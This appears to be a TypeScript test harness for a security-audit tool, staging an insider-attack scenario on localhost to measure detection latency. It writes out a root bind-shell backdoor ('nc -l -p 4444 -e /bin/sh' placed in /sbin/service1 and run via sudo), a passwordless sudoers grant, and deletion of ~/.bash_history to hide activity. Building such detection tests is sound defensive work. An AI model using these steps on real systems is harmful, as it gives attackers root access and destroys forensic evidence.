// The seed story, played for real on this machine: bob logs in over ssh (a real login session, so the
// kernel sets his auid), uses sudo to write /sbin/service1 which starts `nc -l -p 4444 -e /bin/sh`, runs
// it, an outside client connects and runs commands through the backdoor, and bob deletes
// ~/.bash_history. Everything is harmless and local: sshd and the backdoor listen on 127.0.0.1 only, and
// the cleanup removes the user, the binary and the sudoers entry.
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';

export const BOB = 'bob';
export const BACKDOOR = '/sbin/service1';
export const BACKDOOR_PORT = 4444;
export const SSH_PORT = 2222;
const SUDOERS = '/etc/sudoers.d/auditsight-scenario';
const NC = '/usr/bin/nc.traditional'; // the netcat with -e; OpenBSD's nc dropped it

export interface ScenarioStep {
  name: string;
  /** Wall-clock time the step's command was issued (for latency measurements). */
  at: number;
}

export interface ScenarioResult {
  steps: ScenarioStep[];
  /** What the client saw through the backdoor (proves the shell really ran). */
  backdoorOutput: string;
  bobUid: number;
  sshPort: number;
}

function need(bin: string, pkg: string): void {
  if (!fs.existsSync(bin)) throw new Error(`scenario needs ${bin}: apt-get install ${pkg}`);
}

function run(cmd: string, args: string[], input?: string): string {
  return execFileSync(cmd, args, { encoding: 'utf8', input, stdio: [input === undefined ? 'ignore' : 'pipe', 'pipe', 'pipe'] });
}

function waitForPort(port: number, timeoutMs: number): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  return new Promise((resolve, reject) => {
    const attempt = () => {
      const s = net.connect(port, '127.0.0.1');
      s.once('connect', () => {
        s.destroy();
        resolve();
      });
      s.once('error', () => {
        s.destroy();
        if (Date.now() > deadline) reject(new Error(`nothing listens on 127.0.0.1:${port} after ${timeoutMs} ms`));
        else setTimeout(attempt, 100);
      });
    };
    attempt();
  });
}

/**
 * Who listens on the port already, as ss names it (`users:(("sshd",pid=123,fd=3))`), or undefined. A
 * leftover from a killed run would answer our port waits in place of the process we start, and the run
 * would then fail far from the cause (an sshd that never wrote its pid file): refuse up front instead.
 */
export function portHolder(port: number): string | undefined {
  const out = spawnSync('ss', ['-Hltnp', `sport = :${port}`], { encoding: 'utf8' }).stdout ?? '';
  const line = out.trim().split('\n')[0];
  if (!line) return undefined;
  return /users:\(.*\)/.exec(line)?.[0] ?? line;
}

function needFreePort(port: number, what: string): void {
  const holder = portHolder(port);
  if (holder !== undefined) throw new Error(`port ${port} (${what}) is taken by ${holder}, probably left over from an earlier run that was killed; stop it and run again`);
}

/** Probing the backdoor port with a connect would itself show up as an accepted connection; poll ss. */
async function waitForListen(port: number, timeoutMs: number): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    const out = spawnSync('ss', ['-Hltn', `sport = :${port}`], { encoding: 'utf8' }).stdout ?? '';
    if (out.trim()) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`the backdoor did not listen on :${port} within ${timeoutMs} ms`);
}

export interface Prepared {
  keyFile: string;
  sshdPid: number;
  bobUid: number;
  cleanup(): void;
}

/** Creates bob, his ssh key and sudo rights, and an sshd on 127.0.0.1:2222. Idempotent. */
export async function prepare(): Promise<Prepared> {
  if (process.getuid?.() !== 0) throw new Error('the scenario needs root (it creates a user and starts sshd)');
  need('/usr/sbin/sshd', 'openssh-server');
  need('/usr/bin/sudo', 'sudo');
  need(NC, 'netcat-traditional');
  need('/usr/bin/ssh', 'openssh-client');
  // Before anything is created, so that a refusal leaves nothing behind.
  needFreePort(SSH_PORT, "the scenario's sshd");
  needFreePort(BACKDOOR_PORT, 'the backdoor');
  if (spawnSync('id', ['-u', BOB]).status !== 0) run('useradd', ['--create-home', '--shell', '/bin/bash', BOB]);
  const bobUid = Number(run('id', ['-u', BOB]).trim());
  // A locked password (!) makes sshd refuse even key logins with "account locked"; '*' just has none.
  run('usermod', ['-p', '*', BOB]);
  fs.writeFileSync(SUDOERS, `${BOB} ALL=(ALL) NOPASSWD: ALL\n`, { mode: 0o440 });

  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'auditsight-scenario-'));
  const keyFile = path.join(dir, 'id_ed25519');
  run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', keyFile]);
  const sshDir = `/home/${BOB}/.ssh`;
  fs.mkdirSync(sshDir, { recursive: true, mode: 0o700 });
  fs.writeFileSync(`${sshDir}/authorized_keys`, fs.readFileSync(`${keyFile}.pub`), { mode: 0o600 });
  run('chown', ['-R', `${BOB}:${BOB}`, sshDir]);

  run('ssh-keygen', ['-A']);
  fs.mkdirSync('/run/sshd', { recursive: true, mode: 0o755 });
  const pidFile = path.join(dir, 'sshd.pid');
  // UsePAM: pam_loginuid sets bob's audit uid, which is what makes this a login session to the kernel.
  run('/usr/sbin/sshd', ['-p', String(SSH_PORT), '-o', 'ListenAddress=127.0.0.1', '-o', `PidFile=${pidFile}`, '-o', 'UsePAM=yes', '-o', 'PasswordAuthentication=no', '-o', 'PermitRootLogin=prohibit-password']);
  await waitForPort(SSH_PORT, 10_000);
  const sshdPid = Number(fs.readFileSync(pidFile, 'utf8').trim());

  return {
    keyFile,
    sshdPid,
    bobUid,
    cleanup() {
      spawnSync('pkill', ['-f', `${NC} -l -p ${BACKDOOR_PORT}`]);
      spawnSync('pkill', ['-u', BOB]);
      try {
        process.kill(sshdPid, 'SIGTERM');
      } catch {
        /* already gone */
      }
      fs.rmSync(BACKDOOR, { force: true });
      fs.rmSync(SUDOERS, { force: true });
      spawnSync('userdel', ['--remove', BOB]);
      fs.rmSync(dir, { recursive: true, force: true });
    },
  };
}

function ssh(p: Prepared, command: string): ReturnType<typeof spawn> {
  return spawn(
    'ssh',
    ['-tt', '-i', p.keyFile, '-p', String(SSH_PORT), '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR', `${BOB}@127.0.0.1`, command],
    { stdio: ['pipe', 'pipe', 'pipe'] },
  );
}

/** Plays the story; `pauseMs` between steps makes each step's alert latency measurable on its own. */
export async function playInsider(p: Prepared, pauseMs = 1500): Promise<ScenarioResult> {
  const steps: ScenarioStep[] = [];
  const mark = (name: string) => steps.push({ name, at: Date.now() });
  const pause = () => new Promise((r) => setTimeout(r, pauseMs));

  // One interactive login session for everything bob does: sshd -> bash (bob) -> ...
  const session = ssh(p, 'bash --noprofile --norc -i');
  let sessionOut = '';
  session.stdout!.on('data', (d) => (sessionOut += d));
  const type = (line: string) => session.stdin!.write(`${line}\n`);
  await new Promise((r) => setTimeout(r, 1000));

  mark('history-written');
  type(`echo 'ls -la /etc' >> ~/.bash_history`);
  await pause();
  mark('backdoor-written');
  type(`printf '#!/bin/sh\\n${NC} -l -p ${BACKDOOR_PORT} -e /bin/sh\\n' | sudo tee ${BACKDOOR} > /dev/null && sudo chmod 755 ${BACKDOOR}`);
  await pause();
  mark('backdoor-started');
  type(`sudo ${BACKDOOR} &`);
  await waitForListen(BACKDOOR_PORT, 15_000);
  await pause();

  // The outside client: not in bob's session, talks to the shell nc hands it.
  mark('backdoor-used');
  const backdoorOutput = await new Promise<string>((resolve, reject) => {
    const c = net.connect(BACKDOOR_PORT, '127.0.0.1');
    let out = '';
    c.on('data', (d) => (out += d));
    c.once('error', reject);
    c.once('connect', () => {
      c.write('id\nuname -a\n');
      setTimeout(() => c.end('exit\n'), 1500);
    });
    c.once('close', () => resolve(out));
  });
  await pause();

  mark('history-deleted');
  type('rm ~/.bash_history');
  await pause();
  type('exit');
  await new Promise<void>((r) => session.once('exit', () => r()));
  if (!/uid=0\(root\)/.test(backdoorOutput)) {
    throw new Error(`the backdoor did not answer as expected; got ${JSON.stringify(backdoorOutput)}; session said ${JSON.stringify(sessionOut.slice(-500))}`);
  }
  return { steps, backdoorOutput, bobUid: p.bobUid, sshPort: SSH_PORT };
}
